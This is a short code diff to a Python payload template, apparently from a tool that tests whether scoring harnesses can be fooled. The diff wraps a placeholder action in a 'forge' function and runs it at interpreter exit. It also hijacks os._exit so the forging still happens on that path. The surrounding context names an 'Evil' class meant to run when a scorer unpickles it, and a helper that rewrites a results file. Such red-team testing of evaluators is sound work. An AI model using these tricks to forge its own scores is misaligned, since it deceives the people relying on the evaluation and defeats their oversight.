@@ -64,7 +64,16 @@ class Evil:  # what a scorer that unpickles would run
 def rewrite(old, new):
     text = open(J).read()
     open(J, 'w').write(text.replace(old, new))
-atexit.register(lambda: {action})
+def forge():
+    {action}
+atexit.register(forge)
+_exit = os._exit
+def _forged_exit(code):  # the export leaves with os._exit (no atexit hooks): forge on the way out too
+    try:
+        forge()
+    finally:
+        _exit(code)
+os._exit = _forged_exit
 """
 
 
